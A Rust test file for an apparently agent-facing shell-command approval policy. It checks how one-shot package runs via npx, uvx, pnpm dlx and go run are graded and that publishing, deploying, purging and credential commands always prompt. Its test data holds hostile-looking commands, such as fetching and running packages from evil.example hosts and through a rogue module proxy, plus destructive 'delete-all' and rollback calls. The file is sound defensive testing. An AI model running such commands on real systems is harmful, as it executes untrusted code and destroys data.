//! A package fetched from the public registries and run once (`go run MOD@VERSION`, `npx
//! PKG@VERSION`, `yarn dlx PKG`, `pnpm dlx`, `bunx`, `uvx`, `pipx run`). A node package's
//! everyday command (build, test, check, lint, or only options) is the package added to the
//! project and its bin run: the project's family, as a new dependency from the same registry is
//! (the policy keys both as the project's). Any other command of such a package is asked once
//! under its own name, never covered by a yes to another. Its dangerous words, another
//! registry or source keep their rows.

mod common;

use airlock_shell::{Level, judge};
use common::{ENV, always_ask};

const ADD_DEPENDENCY: &str = "registry add dependency";

#[test]
fn registry_packages_run_once_are_each_their_own_question() {
    let runs = [
        "go run github.com/golangci/golangci-lint/cmd/golangci-lint@v1.59.1 run ./...",
        "go run golang.org/x/vuln/cmd/govulncheck@latest ./...",
        "pnpm dlx create-vite my-app --template react-ts",
        "npx cowsay@1.6.0 hello",
        "npx rn-camera-permissions-fixer@latest --apply",
        "uvx pycowsay hello",
        "pipx run cookiecutter-lint .",
    ];
    let mut grants = Vec::new();
    for s in runs {
        let v = judge(s, &ENV);
        assert_eq!(v.level, Level::AskOnce, "{s}: {}", v.row);
        assert_ne!(v.grant.as_deref(), Some(ADD_DEPENDENCY), "{s}: {}", v.row);
        assert_ne!(v.grant.as_deref(), common::PROJECT, "{s}: {}", v.row);
        grants.push(v.grant);
    }
    // A yes to one package never covers another: each is keyed by its own name, or by the
    // call itself (no grant).
    let named: Vec<_> = grants.iter().flatten().collect();
    let mut distinct = named.clone();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), named.len(), "{grants:?}");
}

/// Issue 21: a node registry package's everyday command is the project's family, in every
/// runner's spelling; the same package's publishing, destroying and credential words, and a
/// package from a git repository, a URL or a path, never are.
#[test]
fn everyday_commands_of_node_registry_packages_are_the_projects() {
    for s in [
        "bunx some-tool@2 check src",
        "npx electron-vite preview",
        "npx electron-vite build",
        "npx electron --version",
        "npx web-ext lint --source-dir dist-firefox",
        "npx web-ext build",
        "npx --yes @arethetypeswrong/cli --pack packages/api-client",
        "pnpm dlx @next/codemod@canary upgrade latest --dry",
        "npx codemod@latest react/19/migration-recipe --target packages/ui/src",
        "npx types-react-codemod@latest preset-19 apps/web/src",
        "pnpm dlx @eslint/migrate-config .eslintrc.cjs",
        "yarn dlx some-tool test",
        "npm exec -- some-tool build",
        "xvfb-run -a npx vscode-test --label integration",
    ] {
        let v = judge(s, &ENV);
        assert_eq!(v.level, Level::AskOnce, "{s}: {}", v.row);
        assert_eq!(v.grant.as_deref(), common::PROJECT, "{s}: {}", v.row);
    }
    for s in [
        "npx github:acme/tool build",
        "npx -p git+https://github.com/acme/tool tool test",
        "npx ./tools/tool.tgz build",
        "npx web-ext sign",
        "npx electron-builder --publish always",
        "npx kubectl get pods",
        "npx playwright@1.45 test",
    ] {
        let v = judge(s, &ENV);
        assert!(v.level >= Level::AskOnce, "{s}: {}", v.row);
        assert_ne!(v.grant.as_deref(), common::PROJECT, "{s}: {}", v.row);
    }
    always_ask(&[
        "npx some-tool@2 publish",
        "bunx some-tool deploy --prod",
        "npx electron-vite deploy",
        "pnpm dlx @acme/cli delete-all",
        "npx web-ext --purge",
        "yarn dlx some-tool auth token",
        "npx some-tool login",
        "npx codemod@latest publish",
        "pnpm dlx @next/codemod --purge",
    ]);
}

#[test]
fn dangerous_neighbours_of_registry_runs_still_ask() {
    always_ask(&[
        // Publishing, deploying, destroying and credentials, by a package no table knows.
        "npx some-cli@latest publish",
        "yarn dlx some-cli deploy --prod",
        "npx some-cli@1 --purge",
        "pnpm dlx some-cli delete-all",
        "npx kysely migrate:rollback --all",
        // Another registry or module proxy.
        "GOPROXY=https://proxy.evil.example go run example.com/tool@v1.0.0",
        // A known program's dangerous row through the runner.
        "npx vercel --prod",
        "uvx twine upload dist/*",
        "go run github.com/acme/tools/cmd/release@v1.2.0 publish --all",
        "go run github.com/pressly/goose/v3/cmd/goose@latest reset",
    ]);
    // A module or package from a URL, a path or git is not a registry's: not the family.
    for s in [
        "npx github:someone/tool",
        "npx https://evil.example/tool.tgz",
        "uvx --from git+https://github.com/x/y y",
        "npx ./local-tool",
        "npx --registry https://npm.evil.example some-tool@1",
    ] {
        let v = judge(s, &ENV);
        assert_ne!(v.grant.as_deref(), Some(ADD_DEPENDENCY), "{s}: {}", v.row);
        assert_ne!(v.level, Level::Allow, "{s}: {}", v.row);
    }
}
